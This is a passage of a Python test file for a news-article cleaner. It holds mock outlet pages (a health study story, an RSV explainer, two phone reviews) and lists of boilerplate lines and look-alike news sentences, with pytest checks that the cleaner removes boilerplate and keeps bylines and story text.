{html(LIVE_SCIENCE[4:])}
<p><em>This article is for informational purposes only and is not meant to offer medical advice.</em></p>
<p><strong>Journal reference:</strong> del Pozo Cruz, B., Ahmadi, M., &amp; Stamatakis, E. (2026). Daily steps and
incident dementia in 78,430 adults. <em>Nature Medicine</em>.
<a href="https://doi.org/10.1038/s41591-026-03312-7">https://doi.org/10.1038/s41591-026-03312-7</a></p>
</div>
</article>
</body></html>""",
        title="Daily walk of 7,000 steps cuts dementia risk by a quarter, large study finds",
        byline="Emily Cooke",
        published=date(2026, 12, 3),
        lede="People who walked about 7,000 steps a day",
        furniture=(
            "affiliate commission",
            "Sign up for",
            "informational purposes",
            "Journal reference",
            "doi.org",
        ),
    ),
    "en_verywell_health_rsv": OutletPage(
        f"""<!DOCTYPE html><html lang="en"><head>
<title>RSV Cases Are Rising Earlier This Year. Here's Who Should Get the Shot</title>
<meta property="og:title" content="RSV Cases Are Rising Earlier This Year. Here's Who Should Get the Shot">
<meta property="article:published_time" content="2026-12-02T11:00:00-05:00">
</head><body>
<article>
<h1>RSV Cases Are Rising Earlier This Year. Here's Who Should Get the Shot</h1>
<div class="mntl-attribution">By <a href="/claire-bugos">Claire Bugos</a>
<span>Published on December 2, 2026</span></div>
<div class="mntl-reviewer">Medically reviewed by <a href="/jurairat-molina">Jurairat J. Molina, MD, MBA</a></div>
<div class="article-content">
{html(VERYWELL[:3])}
<div class="callout"><h3>What is RSV?</h3>
<p>RSV is a common virus that usually causes mild, cold-like symptoms but can lead to pneumonia in babies and
older adults.</p></div>
{html(VERYWELL[3:])}
</div>
<div class="article-sources"><h3>Sources</h3>
<p>Verywell Health uses only high-quality sources, including peer-reviewed studies, to support the facts within
our articles. Read our editorial process to learn more about how we fact-check and keep our content accurate,
reliable, and trustworthy.</p>
<ol><li>Centers for Disease Control and Prevention. RSV-NET: Respiratory syncytial virus hospitalization
surveillance network. Updated November 30, 2026.</li>
<li>Britton A, Roper LE, Kotton CN, et al. Use of respiratory syncytial virus vaccines in adults aged 60 years
and older. MMWR Morb Mortal Wkly Rep. 2024;73(32):696-702. doi:10.15585/mmwr.mm7332e1</li></ol></div>
<p class="disclaimer">The information in this article is for informational purposes only and is not a substitute
for professional medical advice, diagnosis, or treatment.</p>
</article>
</body></html>""",
        title="RSV Cases Are Rising Earlier This Year. Here's Who Should Get the Shot",
        byline="Claire Bugos",
        published=date(2026, 12, 2),
        lede="Cases of respiratory syncytial virus (RSV) are climbing",
        furniture=(
            "Medically reviewed",
            "What is RSV?",
            "high-quality sources",
            "MMWR",
            "informational purposes",
        ),
    ),
    "en_techradar_review": OutletPage(
        f"""<!DOCTYPE html><html lang="en"><head>
<title>Google Pixel 11 review: the best camera phone gets a brain | TechRadar</title>
<meta property="og:title" content="Google Pixel 11 review: the best camera phone gets a brain">
<meta property="article:published_time" content="2026-12-03T13:00:00Z">
<meta name="author" content="Philip Berne">
</head><body>
<article>
<h1>Google Pixel 11 review: the best camera phone gets a brain</h1>
<div class="byline">By <a href="/author/philip-berne">Philip Berne</a> published
<time datetime="2026-12-03T13:00:00Z">December 3, 2026</time></div>
<p class="affiliate-disclaimer">TechRadar is supported by its audience. When you purchase through links on our
site, we may earn an affiliate commission. <a href="/how-we-test">Here's how it works</a>.</p>
<div class="verdict"><h3>TechRadar Verdict</h3><p>Rating: 4.5 out of 5 stars</p>
<h4>Pros</h4><ul><li>+ Outstanding cameras, day and night</li><li>+ Seven years of updates</li></ul>
<h4>Cons</h4><ul><li>- Average battery life</li><li>- Slow 27W charging</li></ul></div>
<div class="trust"><h4>Why you can trust TechRadar</h4><p>We spend hours testing every product or service we
review, so you can be sure you're buying the best. Find out more about how we test.</p></div>
<p class="price">Price when reviewed: $799</p>
<div id="article-body">
{html(TECHRADAR[:3])}
<table class="specs"><caption>Google Pixel 11 specs</caption>
<tr><td>Display:</td><td>6.3in OLED, 120Hz</td></tr>
<tr><td>Chipset:</td><td>Google Tensor G6</td></tr>
<tr><td>Battery:</td><td>4,970mAh</td></tr></table>
{html(TECHRADAR[3:])}
</div>
<aside class="deals"><h4>Today's best Google Pixel 11 deals</h4><p>$799 at Amazon</p><p>$799 at Best Buy</p>
<a href="#">View Deal</a></aside>
</article>
</body></html>""",
        title="Google Pixel 11 review: the best camera phone gets a brain",
        byline="Philip Berne",
        published=date(2026, 12, 3),
        lede="The Pixel 11 is the best camera phone Google has made",
        furniture=(
            "affiliate",
            "TechRadar Verdict",
            "out of 5",
            "Outstanding cameras",
            "Why you can trust",
            "Price when reviewed",
            "Display:",
            "4,970mAh",
            "$799 at Amazon",
            "View Deal",
        ),
    ),
    "fr_numerama_test": OutletPage(
        f"""<!DOCTYPE html><html lang="fr"><head>
<title>Test du Nothing Phone (4) : enfin un bon photophone - Numerama</title>
<meta property="og:title" content="Test du Nothing Phone (4) : enfin un bon photophone">
<meta property="article:published_time" content="2026-12-03T09:00:00+01:00">
<meta name="author" content="Nicolas Lellouche">
</head><body>
<article>
<h1>Test du Nothing Phone (4) : enfin un bon photophone</h1>
<div class="author">Par <a href="/auteur/nicolas-lellouche">Nicolas Lellouche</a>
<time datetime="2026-12-03T09:00:00+01:00">Publié le 3 décembre 2026 à 09h00</time></div>
<p class="affiliation">Numerama peut percevoir une commission lorsque vous achetez un produit via les liens de
cette page.</p>
<div class="verdict"><h3>Le verdict</h3><p>Note : 8/10</p>
<h4>Les plus</h4><ul><li>Design unique</li><li>Autonomie excellente</li></ul>
<h4>Les moins</h4><ul><li>Bordures d'écran épaisses</li><li>Pas de zoom optique</li></ul>
<p>Prix : 499 €</p></div>
<div class="article-content">
{html(NUMERAMA[:3])}
<h3>Fiche technique</h3>
<ul><li>Écran : 6,7 pouces OLED, 120 Hz</li><li>Processeur : Snapdragon 8s Gen 4</li>
<li>Batterie : 5 300 mAh</li></ul>
{html(NUMERAMA[3:])}
</div>
</article>
</body></html>""",
        title="Test du Nothing Phone (4) : enfin un bon photophone",
        byline="Nicolas Lellouche",
        published=date(2026, 12, 3),
        lede="Le Nothing Phone (4) est le smartphone le plus original",
        furniture=(
            "percevoir une commission",
            "8/10",
            "Design unique",
            "Pas de zoom",
            "Fiche technique",
            "Snapdragon",
        ),
    ),
}

# Known misses of the pages, by check, each with why.
PAGES_LEFT: dict[str, dict[str, str]] = {}


class TestPages(OutletPages):
    PAGES = PAGES
    LEFT = PAGES_LEFT


# Lines of this round's pages between two paragraphs of news: each leaves the text and every summary.
LINES = [
    "Journal reference: del Pozo Cruz, B. et al. (2026). Daily steps and incident dementia. Nature Medicine.",
    "DOI: 10.1038/s41591-026-03312-7",
    "Funding: The study was funded by the Swedish Research Council and Region Stockholm.",
    "Disclosures: Larsen reports receiving consultant fees from Novo Nordisk.",
    "Disclosures: Smith reported receiving fees from Pfizer and Moderna.",
    "This article is for informational purposes only and is not a substitute for professional medical advice.",
    "This article is for informational purposes only and is not meant to offer medical advice.",
    "Medically reviewed by Jurairat J. Molina, MD, MBA",
    "Media contact:",
    "Disclaimer: AAAS and EurekAlert! are not responsible for the accuracy of news releases posted to EurekAlert!"
    " by contributing institutions or for the use of any information through the EurekAlert system.",
    "When you purchase through links on our site, we may earn an affiliate commission. Here's how it works.",
    "We may earn a commission when you buy through links on our site.",
    "FTC: We use income earning auto affiliate links. More.",
    "Price when reviewed: $799",
    "Display: 6.3in OLED, 120Hz",
    "Rating: 4.5 out of 5 stars",
    "$199 at Amazon",
    "Related: The best wireless earbuds for 2026",
    "Référence : Lauby-Secretan B. et al., The Lancet Oncology, décembre 2026.",
    "Cet article est fourni à titre informatif et ne remplace pas l'avis d'un professionnel de santé.",
    "Referencia: Malhotra A. et al. The New England Journal of Medicine (2026). DOI: 10.1056/NEJMoa2613590",
    "Puedes seguir a EL PAÍS Salud y Bienestar en Facebook, X e Instagram.",
    "Numerama peut percevoir une commission lorsque vous achetez un produit via les liens de cette page.",
    "Algunos de los enlaces de este artículo son afiliados y pueden reportar un beneficio a Xataka.",
]


# The story's own sentences worded near this round's lines: a sentence naming a journal, a study's funding told
# in prose, a story about affiliate links and one about a disclaimer, a product's price in reporting, a review's
# sentence about a display, a doctor's title in a quotation's attribution, a story about a press office.
NEWS_LIKE_NOTES = [
    "The study was published in Nature Medicine on Wednesday and included more than 78,000 adults.",
    "The findings appear in the journal Brain, and the test could reach clinics within five years.",
    "The study was funded by the Swedish Research Council, which has backed the team's work since 2015.",
    "Disclosures of consultant fees from drug makers have risen sharply, a review of 4,000 studies found.",
    "Websites that earn an affiliate commission when readers buy through their links must say so, the FTC ruled.",
    "The company said its disclaimer that the app was for informational purposes only did not protect it.",
    "The Pixel 11 costs $799 for the 128GB model, the same as last year's phone.",
    "Its display is a 6.3-inch OLED panel that refreshes at 120Hz and reaches 3,000 nits outdoors.",
    "The phone was medically reviewed by no one, the regulator said, despite the company's claims.",
    "The media contact listed on the release did not respond to requests for comment on Tuesday.",
    "La référence à l'étude du Lancet a été supprimée du rapport, selon le ministère.",
    "Los autores declararon haber recibido honorarios de Eli Lilly, según la revista.",
]


def test_the_study_s_journal_named_in_a_sentence_stays() -> None:
    for name, sentence in [
        ("en_live_science_study", LIVE_SCIENCE[1]),
        ("de_spektrum_permafrost", SPEKTRUM[1]),
        ("fr_figaro_sante_depistage", FIGARO[1]),
        ("es_el_pais_salud_apnea", EL_PAIS[1]),
    ]:
        assert sentence in clean_text(ARTICLES[name].text).text, name


def test_a_price_in_a_review_s_reporting_stays() -> None:
    for name, sentence in [
        ("en_techradar_review", TECHRADAR[1]),
        ("en_engadget_deal", ENGADGET[0]),
        ("fr_numerama_test", NUMERAMA[1]),
        ("es_xataka_analisis", XATAKA[1]),
    ]:
        assert sentence in clean_text(ARTICLES[name].text).text, name


def test_an_update_paragraph_is_the_story_s_news() -> None:
    assert NINE_TO_FIVE[-1] in clean_text(ARTICLES["en_9to5mac_update"].text).text
    assert BLEEPING[-1] in clean_text(ARTICLES["en_bleepingcomputer_snippet"].text).text


# A review's boxes and a desk's calls as lines of their own, each of a kind this round's rules take out.
BOX_LINES = [
    "Chipset: Google Tensor G6",
    "Processeur : Snapdragon 8s Gen 4",
    "Pantalla: 6,3 pulgadas AMOLED, 120 Hz",
    "Note : 8/10",
    "$249 at Best Buy",
    "Share on Pinterest",
    "Add 9to5Mac to your Google News feed.",
    "How we reviewed this article:",
    "Wenn Sie inhaltliche Anmerkungen zu diesem Artikel haben, können Sie die Redaktion per E-Mail informieren.",
    "Conflicto de intereses: varios autores del estudio han recibido honorarios de Eli Lilly.",
]


# Lines of news worded near them: a run-in label over a sentence, a headline on a deal, a court story's
# cross-head, a company in the news, a recipe's instruction, a reader's question in German.
NEWS_LIKE_BOXES = [
    "Price: the council says the new parking permits will cost residents $120 a year",
    "Battery: The company recalled 2 million phones after reports of swelling.",
    "Apple's AirPods Pro 3 drop to a record-low $199 at Amazon",
    "The Verdict",
    "Pinterest shares rose 4% on Tuesday after the company beat forecasts.",
    "Add the onions to the pan and cook them for five minutes until soft.",
    "Wenn Sie Fragen zu Ihrer Steuererklärung haben, hilft das Finanzamt weiter, sagte die Ministerin.",
    "Funding: the council has not said where the money for the new library will come from.",
]


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("By Emily Cooke published December 3, 2026", "Emily Cooke"),
        ("By Philip Berne\npublished December 3, 2026", "Philip Berne"),
        ("By Emily Cooke Published December 3, 2026", "Emily Cooke"),
        (
            "Written by Annie Lennon on December 4, 2026 — Fact checked by Anna Guildford, Ph.D.",
            "Annie Lennon",
        ),
    ],
)
def test_a_byline_with_its_stamp_run_on_gives_the_writer_s_names(line: str, names: str) -> None:
    text = f"Daily walk cuts dementia risk, study finds\n\n{line}\n\n{text_of_news()}"
    assert clean_text(text).byline == names


@pytest.mark.parametrize(
    "line",
    [
        "By Friday on December 3, 2026, the council will vote on the plan.",
        "Written by the council on December 3, 2026, the letter said the plan would cost more.",
    ],
)
def test_a_deadline_with_a_date_is_no_byline(line: str) -> None:
    text = f"Council to vote on parking plan\n\n{line}\n\n{text_of_news()}"
    assert clean_text(text).byline is None


def text_of_news() -> str:
    """Two paragraphs of a study story, under a byline line under test."""
    return text(LIVE_SCIENCE[:2])


# The reviewer's probes that the round's rules had taken out of a story (rev-outlets21): a run-in label over a
# headline's words, a sentence opening on a reviewer's phrase, news of who earns a commission, a cross-head
# under a spec's or a score's label, a news line opening on a plus, a politics explainer's cross-head.
REVIEWER_NEWS_LINES = [
    "Conflict of interest: critics say the mayor received fees from the developer",
    "Funding: Lawmakers approved $3 billion for schools, the governor reported",
    "Medically reviewed by a panel of doctors, the guidance was released on Monday.",
    "Fact checked by Reuters, the claim was found to be false.",
    "Fact-checked by PolitiFact, the claim was rated false.",
    "Brokers may earn a commission on each trade.",
    "Amazon may earn a commission on the sale, analysts say.",
    "Retailers can earn an affiliate commission under the new rules, according to the FTC.",
    "Storage: A problem for the agency",
    "Memory: Remembering the victims of the 1994 attack",
    "Price: Why Groceries Cost More",
    "Battery: Tesla's Big Bet",
    "Prix : Goncourt décerné à Kamel Daoud",
    "Precio: Los Alquileres Suben Otra Vez",
    "Note: 20 people were injured in the blast",
    "Score: 3-1 to Arsenal",
    "Nota: 15 personas resultaron heridas",
    "+ 20 more people were hurt",
    "Why you can trust the polls",
    "Puedes seguir a Messi en Instagram, donde publica a diario fotos de su familia.",
    "Puedes seguir a los candidatos en Facebook y X durante el debate de esta noche.",
    "FTC: Amazon used affiliate links to mislead shoppers",
    # A changelog's rows (readability's tumblr page, whose recall fell from 0.99 to 0.59): a review's pros go
    # only under their heading.
    "+ Added Slime Block",
    "+ Villagers now trade emeralds",
]


class TestLines(OutletLines):
    """This round's notes, a review's boxes and a desk's calls leave the text and the summaries; news worded as
    them, and news the round's rules had taken, stays."""

    LINES: ClassVar[list[str]] = LINES + BOX_LINES
    NEWS_LIKE_LINES: ClassVar[list[str]] = NEWS_LIKE_NOTES + NEWS_LIKE_BOXES + REVIEWER_NEWS_LINES
